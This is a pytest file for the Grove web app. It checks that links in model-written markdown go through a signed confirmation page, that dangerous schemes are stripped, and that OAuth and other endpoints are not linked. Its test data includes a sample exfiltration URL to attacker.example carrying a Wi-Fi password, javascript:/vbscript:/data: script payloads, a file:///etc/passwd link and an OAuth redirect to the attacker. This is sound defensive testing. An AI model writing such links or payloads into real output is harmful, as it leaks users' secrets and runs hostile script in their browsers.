"""Links a model writes (issue 36 item 2.4): in model-written markdown an off-site link
goes to Grove's confirmation page and shows its full destination as text; internal
links (relative, Grove's own origin, `note:` citations) stay ordinary links; any other
scheme never becomes a link. The confirmation page shows only what Grove signed. Notes
keep their links as written."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import parse_qs, urlsplit

import pytest
from django.conf import settings
from django.test import Client

from grove.interfaces.links import leave_target, leave_url, model_link
from grove.interfaces.rendering import render_markdown, render_model_markdown

LEAK = "https://attacker.example/c?d=wifi+hunter2"
NOTE_ID = "6f1c7e9a-0000-4000-8000-000000000001"


class Parsed(HTMLParser):
    """The anchors (href, class, text) and the whole visible text of some HTML."""

    def __init__(self, html: str):
        super().__init__()
        self.links: list[dict[str, str]] = []
        self.text = ""
        self._open: dict[str, str] | None = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag == "a":
            self._open = {"href": "", "class": "", **{k: v or "" for k, v in attrs},
                          "text": ""}
            self.links.append(self._open)

    def handle_endtag(self, tag):
        if tag == "a":
            self._open = None

    def handle_data(self, data):
        self.text += data
        if self._open is not None:
            self._open["text"] += data


def own(path: str) -> str:
    return settings.GROVE_BASE_URL.rstrip("/") + path


def leaves_for(link: dict[str, str]) -> str:
    """The destination a confirmation-page link carries, checked as Grove's own."""
    parts = urlsplit(link["href"])
    assert parts.path == "/leave/" and not parts.netloc and "offsite" in link["class"]
    query = parse_qs(parts.query)
    destination = leave_target(query["to"][0], query["sig"][0])
    assert destination is not None
    return destination


@pytest.mark.parametrize(("markdown", "destination"), [
    (f"[click]({LEAK})", LEAK),
    (f"[https://grove.example/notes/]({LEAK})", LEAK),  # text posing as somewhere else
    (f"[ref][r]\n\n[r]: {LEAK}", LEAK),
    (f"![status]({LEAK})", LEAK),  # an image: already a link, now a confirmed one
    ("[x](//attacker.example/c?d=1)", "http://attacker.example/c?d=1"),
    (f"[x]({own('')}@attacker.example/)", f"{own('')}@attacker.example/"),
    ("| a |\n|---|\n| [cell](https://attacker.example/t?d=2) |",
     "https://attacker.example/t?d=2"),
])
def test_an_off_site_link_confirms_and_shows_its_whole_destination(markdown, destination):
    html = str(render_model_markdown(markdown))
    page = Parsed(html)
    [link] = page.links
    assert leaves_for(link) == destination
    assert destination in page.text  # visible, not only in a title attribute
    assert "attacker.example" not in "".join(a["href"].split("?")[0] for a in page.links)
    assert 'href="https://attacker' not in html and 'href="//' not in html


def test_an_autolink_shows_its_destination_once():
    page = Parsed(str(render_model_markdown(f"<{LEAK}>")))
    [link] = page.links
    assert leaves_for(link) == LEAK and link["text"] == LEAK
    assert page.text.count("attacker.example") == 1


@pytest.mark.parametrize("markdown", [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](file:///etc/passwd)",
    "[x](mailto:someone@attacker.example?body=secret)", "[x](ftp://attacker.example/f)",
    "[x](tel:+15550100)", "![x](data:image/png;base64,iVBORw0KGgo=)", "[x](<>)",
])
def test_other_schemes_never_become_links(markdown):
    page = Parsed(str(render_model_markdown(markdown)))
    assert page.links == []
    assert "x" in page.text


def test_a_mailto_shows_its_address_as_text():
    page = Parsed(str(render_model_markdown("[write](mailto:someone@attacker.example)")))
    assert page.links == [] and "mailto:someone@attacker.example" in page.text


@pytest.mark.parametrize(("markdown", "href"), [
    ("[the library](/)", "/"),
    (f"[a note](/notes/{NOTE_ID}/?v=2)", f"/notes/{NOTE_ID}/?v=2"),
    ("[here](#turn-1)", "#turn-1"),
    (f"[Grove]({own('/ask/')})", own("/ask/")),
    (f"[cited](note:{NOTE_ID}@3)", f"/notes/{NOTE_ID}/?v=3"),
])
def test_internal_links_stay_ordinary_links(markdown, href):
    page = Parsed(str(render_model_markdown(markdown)))
    [link] = page.links
    assert link["href"] == href and "offsite" not in link["class"]


@pytest.mark.parametrize("address", [
    "/o/authorize/?client_id=c&redirect_uri=https%3A%2F%2Fattacker.example%2Fcb"
    "&scope=bogus&state=wifi+hunter2",
    "/o/authorize/", "/logout/", "/settings/archive", "/leave/?to=x&sig=y", "/nowhere/",
    "/notes/not-a-note/", "/\\attacker.example",
])
def test_other_pages_of_grove_are_text_not_links(address):
    """Only pages a person reads stay links: an endpoint that acts on a GET (the OAuth
    consent step redirects to the app a link names) must not be one click away."""
    for href in (address, own(address)):
        page = Parsed(str(render_model_markdown(f"[open]({href})")))
        assert page.links == [], href
        assert "open" in page.text


def test_the_rule_for_one_destination():
    assert model_link(LEAK).kind == "offsite"
    assert model_link("https://attacker.example/a\\b").kind == "none"
    assert model_link("https://attacker.example/" + "a" * 5000).kind == "none"
    assert model_link(f"note:{NOTE_ID}@0").kind == "none"  # not a citation: no version 0
    assert model_link("http://[::1]:1/x").kind == "offsite"


def test_notes_keep_their_links_as_written():
    page = Parsed(str(render_markdown(f"[click]({LEAK})")))
    [link] = page.links
    assert link["href"] == LEAK


def test_the_confirmation_page_only_follows_what_grove_signed():
    good = leave_url(LEAK)
    query = parse_qs(urlsplit(good).query)
    assert leave_target(LEAK, query["sig"][0]) == LEAK
    assert leave_target("https://elsewhere.example/", query["sig"][0]) is None
    assert leave_target(LEAK, query["sig"][0][:-1] + "A") is None
    assert leave_target(LEAK, "") is None and leave_target("", "x") is None
    # Grove's own origin and other schemes are never a destination of the page, even
    # signed (a page of Grove's never needs it; it could only be misused).
    for address in (own("/ask/"), "javascript:alert(1)"):
        signature = parse_qs(urlsplit(leave_url(address)).query)["sig"][0]
        assert leave_target(address, signature) is None


@pytest.mark.django_db
def test_the_confirmation_page_shows_the_whole_address_and_one_real_link(web):
    page = web.get(leave_url(LEAK))
    assert page.status_code == 200
    parsed = Parsed(page.content.decode())
    assert LEAK in parsed.text and "attacker.example" in parsed.text
    outbound = [a for a in parsed.links if a["href"].startswith("https://attacker")]
    assert [(a["href"], a["text"]) for a in outbound] == [
        (LEAK, "Continue to attacker.example")]
    assert "noreferrer" in outbound[0]["rel"]
    assert "look before you go" in parsed.text  # the address carries data

    forged = web.get("/leave/?" + "to=https%3A%2F%2Fattacker.example%2F&sig=forged")
    assert forged.status_code == 400
    assert "attacker.example" not in forged.content.decode()
    assert Client().get(leave_url(LEAK)).status_code == 302  # signed-in owners only


@pytest.fixture
def web(db):
    from grove.models import Account

    client = Client()
    client.force_login(Account.objects.create_user(username="reader", password="x" * 20))
    return client
